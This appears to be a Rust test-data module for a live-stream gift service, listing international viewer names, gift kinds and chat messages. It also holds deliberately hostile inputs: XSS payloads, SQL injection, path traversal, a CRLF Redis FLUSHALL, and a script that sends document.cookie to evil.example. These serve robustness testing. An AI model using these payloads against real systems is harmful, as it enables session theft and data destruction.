//! The words of the show: names, gifts and messages, honest and hostile.

/// A kind of gift; `price` in coins.
#[derive(Clone, Copy, Debug)]
pub(super) struct DemoGift {
    pub(super) id: &'static str,
    pub(super) name: &'static str,
    pub(super) price: u64,
    pub(super) tier: u8,
}

pub(super) const GIVEN: &[&str] = &[
    "Mia", "Noah", "Lea", "Finn", "Zoë", "Björn", "Chloé", "Mateo", "Inés", "João", "Øyvind", "Łukasz",
    "Şebnem", "Nguyễn", "Amara", "Kwame", "Priya", "Arjun", "Sana", "Tariq", "Yuki", "Hana", "Ravi", "Olu",
];

pub(super) const FAMILIES: &[&str] = &[
    "Adler",
    "Okafor",
    "Silva",
    "O’Brien",
    "D'Angelo",
    "Müller-Lüdenscheidt",
    "Nowak",
    "Haddad",
    "Sato",
    "van der Berg",
    "Castillo",
    "Ivanova",
    "Chen",
    "Kaya",
    "Singh",
    "Björk",
];

/// Names in other scripts and directions, and names of signs only.
pub(super) const SCRIPTS: &[&str] = &[
    "小明",
    "王芳芳",
    "爱吃西瓜的猫",
    "陳大文",
    "さくら",
    "田中太郎",
    "ﾊﾝｶｸｶﾅ",
    "김민준",
    "박서연",
    "Дмитрий",
    "Олена",
    "Γιώργος",
    "محمد علي",
    "فاطمة الزهراء",
    "שרה כהן",
    "דוד",
    "สมชาย",
    "อรุณี",
    "आरव शर्मा",
    "தமிழ்",
    "ქეთევანი",
    "Հայկ",
    "አበበ",
    "🦊 fox",
    "👩‍👩‍👧‍👦",
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿 Isla",
    "🇧🇷 Rafa",
    "👍🏽👍🏿",
    "★彡 ᴠɪᴘ 彡★",
    "¯\\_(ツ)_/¯",
    "𝓛𝓾𝓷𝓪",
    "🌸小樱🌸",
    "Ali علي 123",
    "(מיכל)",
    "Mr. 李 (VIP)",
];

/// Viewers that try things: `(id, name)`. The ids are opaque to the gateway, any 1–64 bytes; the
/// first two meet on gifts `rose` and `vip:rose` wherever keys are glued together with colons.
pub(super) const HOSTILE: &[(&str, &str)] = &[
    ("club", "Club"),
    ("club:vip", "Club VIP"),
    ("{demo}", "<script>alert(1)</script>"),
    ("../../etc/passwd", "<img src=x onerror=alert(document.domain)>"),
    ("a b\tc", "\"><svg/onload=alert(1)>"),
    ("'; DROP TABLE gifts; --", "Robert'); DROP TABLE gifts;--"),
    ("\r\nFLUSHALL\r\n", "line\r\nbreak\ttab\u{0}nul"),
    ("观众：七", "&lt;b&gt;&amp;&#x27;"),
    ("%00%0a%252f", "%s%n%d ${7*7} {{7*7}} #{7*7}"),
    ("__proto__", "constructor"),
    ("null", "undefined"),
    ("rtl-1", "\u{202E}gpj.exe\u{202C}"),
    ("rtl-2", "\u{2067}\u{2066}isolates never closed"),
    ("rtl-3", "\u{200F}\u{061C}marks only count as marks"),
    ("ghost", "\u{200B}\u{200B}\u{2060}"),
    ("ghost-2", "\u{7}\u{8}\u{1B}"),
    ("ansi", "\u{1B}[31mred\u{1B}[0m"),
    ("long", "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW"),
    (
        "long-cjk",
        "龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘龘",
    ),
    ("wide", "﷽ ﷽ ﷽ ﷽ ﷽ ﷽"),
    ("zalgo", "Z̸̧̢̛͇̗̓̐͋a̵͎̔͜l̷̛̰̮̀g̶̘̈́͝o̵͉̿"),
    ("nfd", "Zoe\u{308} Bjo\u{308}rn e\u{301}\u{301}\u{301}"),
    ("nfc-grows", "\u{FB2C}\u{FB2C}\u{1D160}"),
    ("separators", "one\u{2028}two\u{2029}three\u{85}four"),
    ("bom", "\u{FEFF}bom\u{FFFD}\u{FFFE}\u{10FFFF}"),
    ("tags", "\u{E0001}\u{E0068}\u{E0069}tagged"),
    ("backslash", "\\u0000 \\\" \\ / \\n"),
    ("json", "\"},\"user\":{\"id\":\"admin\",\"name\":\"admin\"},\"x\":{\"y\":\""),
    ("css", "</style><style>*{display:none}</style>"),
    ("0123456789012345678901234567890123456789012345678901234567890123", "an id of 64 bytes"),
];

/// What can be sent, cheap ones first.
pub(super) const KINDS: &[DemoGift] = &[
    DemoGift { id: "rose", name: "🌹 Rose", price: 1, tier: 0 },
    DemoGift { id: "heart", name: "💜 Heart", price: 2, tier: 0 },
    DemoGift { id: "coffee", name: "☕ Coffee", price: 5, tier: 1 },
    DemoGift { id: "lollipop", name: "🍭 棒棒糖", price: 9, tier: 1 },
    DemoGift { id: "vip:rose", name: "🥀 VIP Rose", price: 10, tier: 1 },
    DemoGift { id: "clap", name: "👏🏽 Applause", price: 10, tier: 1 },
    DemoGift { id: "cake", name: "🎂 Cake", price: 50, tier: 2 },
    DemoGift { id: "lantern", name: "🏮 孔明灯", price: 66, tier: 3 },
    DemoGift { id: "coffee-pot", name: "قهوة عربية", price: 80, tier: 3 },
    DemoGift { id: "fireworks", name: "🎆 花火", price: 199, tier: 4 },
    DemoGift { id: "crown", name: "👑 Crown & Sceptre", price: 520, tier: 6 },
    DemoGift { id: "sports car", name: "🏎️ Sports Car", price: 1_314, tier: 7 },
    DemoGift { id: "rocket", name: "🚀 Rocket", price: 5_000, tier: 8 },
    DemoGift { id: "castle", name: "🏰 Château de l’Étoile filante", price: 30_000, tier: 9 },
];

/// Index of the first kind in [`KINDS`] that counts as a big gift.
pub(super) const BIG: usize = 10;

pub(super) const MESSAGES: &[&str] = &[
    "gg!",
    "for the last round 👏",
    "主播加油！",
    "ありがとう、最高でした",
    "오늘 방송 최고예요 ㅋㅋㅋ",
    "ما شاء الله، أحسنت!",
    "כל הכבוד, המשיכי ככה 123",
    "Спасибо за стрим",
    "happy birthday, Mia 🎂🎂🎂",
    "😂😂😂😂😂😂😂😂😂😂",
];

/// What viewers write that try things.
pub(super) const HOSTILE_MESSAGES: &[&str] = &[
    "I said \"no spoilers\" & you said <spoilers>",
    "check https://example.com/?a=1&b=<2>",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "javascript:alert(1)",
    "two\nlines\u{0}and a nul",
    "\u{202E}backwards",
    "\u{200B}",
];
